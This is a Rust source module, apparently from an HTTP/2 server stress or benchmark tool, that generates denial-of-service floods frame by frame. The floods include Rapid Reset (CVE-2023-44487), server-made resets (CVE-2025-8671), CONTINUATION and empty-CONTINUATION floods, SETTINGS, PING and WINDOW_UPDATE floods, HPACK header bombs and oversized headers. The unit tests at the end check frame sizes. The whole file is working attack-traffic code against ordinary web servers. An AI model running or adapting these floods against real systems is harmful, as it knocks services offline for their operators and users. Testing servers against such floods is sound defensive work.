//! What each flood over HTTP/2 sends: its first frames, and then batch after batch.

use super::frames::{
    CANCEL, END_HEADERS, END_STREAM, HEADER_BYTES, PAYLOAD_BYTES_MAX, PREFACE, WINDOW_MAX, field, field_remembered,
    frame, kind, setting, word,
};

/// A flood over HTTP/2. Those over QUIC were first, and have the plain names.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Requests and their cancellation (CVE-2023-44487)
    #[value(name = "h2-resets")]
    Resets,
    /// Requests that the server has to cancel (CVE-2025-8671)
    #[value(name = "h2-made-resets")]
    MadeResets,
    /// A head that never ends, in CONTINUATION frames of one field
    #[value(name = "h2-continuations")]
    Continuations,
    /// The same in frames of nothing (CVE-2019-9518)
    #[value(name = "h2-empty-continuations")]
    EmptyContinuations,
    /// SETTINGS, each to be acknowledged
    #[value(name = "h2-settings")]
    Settings,
    /// PING, each to be answered
    #[value(name = "h2-pings")]
    Pings,
    /// DATA without content
    #[value(name = "h2-empty-data")]
    EmptyData,
    /// DATA of one byte
    #[value(name = "h2-tiny-data")]
    TinyData,
    /// PRIORITY
    #[value(name = "h2-priorities")]
    Priorities,
    /// WINDOW_UPDATE by one byte
    #[value(name = "h2-window-updates")]
    WindowUpdates,
    /// Heads of 16 KiB that unpack to 60 MiB (HPACK bombs)
    #[value(name = "h2-header-bombs")]
    HeaderBombs,
    /// Heads of 17 KiB, a little too large
    #[value(name = "h2-large-headers")]
    LargeHeaders,
}

/// Bytes that are made at a time: what one record of TLS holds.
const BATCH_BYTES: usize = 16 << 10;
/// The table of RFC 7541 has 4,096 bytes, 32 of them for an entry's bookkeeping.
const BOMB_BYTES: usize = 4_000;
/// One byte of the section each.
const BOMB_REFERENCES: usize = 15_000;
/// Fields of 240 bytes as limits count them (name, value, 32): over 16 KiB, and not over twice of it.
const TOO_MANY_FILLERS: usize = 72;

/// Where a flood stands on its connection.
pub struct Flood {
    kind: Kind,
    /// The section of a request's head.
    head: Vec<u8>,
    /// The next request's stream.
    stream: u32,
    /// Frames that were written.
    pub frames: u64,
}

impl Flood {
    /// The flood on a new connection.
    pub fn new(kind: Kind, authority: &str, path: &str) -> Self {
        let upload = matches!(kind, Kind::EmptyData | Kind::TinyData);
        let mut head = Vec::new();
        let method = if upload { "POST" } else { "GET" };
        for (name, value) in [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)] {
            field(&mut head, name, value);
        }
        match kind {
            Kind::HeaderBombs => head.extend([0x80 | 62; BOMB_REFERENCES]),
            Kind::LargeHeaders => {
                let filler = "x".repeat(200);
                (0..TOO_MANY_FILLERS).for_each(|_| field(&mut head, "x-filler", &filler));
            }
            _ => {}
        }
        Self { kind, head, stream: 1, frames: 0 }
    }

    /// What comes first.
    pub fn begin(&mut self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        frame(&mut out, kind::SETTINGS, 0, 0, &[]);
        match self.kind {
            Kind::EmptyData | Kind::TinyData => frame(&mut out, kind::HEADERS, END_HEADERS, 1, &self.head),
            Kind::Continuations | Kind::EmptyContinuations => {
                frame(&mut out, kind::HEADERS, END_STREAM, 1, &self.head);
            }
            Kind::HeaderBombs => {
                // A request that plants what the others ask for.
                let mut planted = self.head[..self.head.len() - BOMB_REFERENCES].to_vec();
                field_remembered(&mut planted, "x-bomb", &"b".repeat(BOMB_BYTES));
                frame(&mut out, kind::HEADERS, END_STREAM | END_HEADERS, 1, &planted);
                self.stream = 3;
            }
            _ => {}
        }
        out
    }

    /// The next batch.
    pub fn batch(&mut self) -> Vec<u8> {
        let mut out = Vec::with_capacity(BATCH_BYTES + PAYLOAD_BYTES_MAX);
        while out.len() + HEADER_BYTES + 64 < BATCH_BYTES && self.stream < WINDOW_MAX {
            self.frames += self.write(&mut out);
        }
        out
    }

    /// The next frames; how many.
    fn write(&mut self, out: &mut Vec<u8>) -> u64 {
        match self.kind {
            Kind::Resets => {
                let stream = self.request(out);
                word(out, kind::RST_STREAM, stream, CANCEL);
                2
            }
            Kind::MadeResets => {
                let stream = self.request(out);
                // With the window that there is, it is over the largest.
                word(out, kind::WINDOW_UPDATE, stream, WINDOW_MAX);
                2
            }
            Kind::Continuations => {
                let mut one = Vec::new();
                field(&mut one, "x", "y");
                frame(out, kind::CONTINUATION, 0, 1, &one);
                1
            }
            Kind::EmptyContinuations => {
                frame(out, kind::CONTINUATION, 0, 1, &[]);
                1
            }
            Kind::Settings => {
                frame(out, kind::SETTINGS, 0, 0, &setting(super::frames::INITIAL_WINDOW_SIZE, 65_535));
                1
            }
            Kind::Pings => {
                frame(out, kind::PING, 0, 0, &[7; 8]);
                1
            }
            Kind::EmptyData => {
                frame(out, kind::DATA, 0, 1, &[]);
                1
            }
            Kind::TinyData => {
                frame(out, kind::DATA, 0, 1, b"a");
                1
            }
            Kind::Priorities => {
                frame(out, kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]);
                1
            }
            Kind::WindowUpdates => {
                word(out, kind::WINDOW_UPDATE, 0, 1);
                1
            }
            Kind::HeaderBombs | Kind::LargeHeaders => {
                self.request(out);
                1
            }
        }
    }

    /// A request, whole; its stream.
    fn request(&mut self, out: &mut Vec<u8>) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        frame(out, kind::HEADERS, END_STREAM | END_HEADERS, stream, &self.head);
        stream
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::ValueEnum;

    #[test]
    fn heads_are_as_large_as_they_should_be() {
        let counted = TOO_MANY_FILLERS * ("x-filler".len() + 200 + 32);
        assert!((16 << 10..32 << 10).contains(&counted));
        for kind in [Kind::HeaderBombs, Kind::LargeHeaders] {
            let wire = Flood::new(kind, "bench.test", "/").head.len();
            assert!((14_000..PAYLOAD_BYTES_MAX).contains(&wire), "{kind:?}: {wire}");
        }
        assert!("x-bomb".len() + BOMB_BYTES + 32 <= 4_096);
    }

    #[test]
    fn every_flood_goes_on_in_whole_frames() {
        for kind in Kind::value_variants() {
            let mut flood = Flood::new(*kind, "bench.test", "/");
            let mut first = flood.begin().split_off(PREFACE.len());
            super::super::frames::read(&mut first);
            assert!(first.is_empty(), "{kind:?}");
            for _ in 0..3 {
                let mut batch = flood.batch();
                assert!(batch.len() > BATCH_BYTES / 2, "{kind:?}");
                super::super::frames::read(&mut batch);
                assert!(batch.is_empty(), "{kind:?}");
            }
            assert!(flood.frames >= 3, "{kind:?}");
        }
    }
}
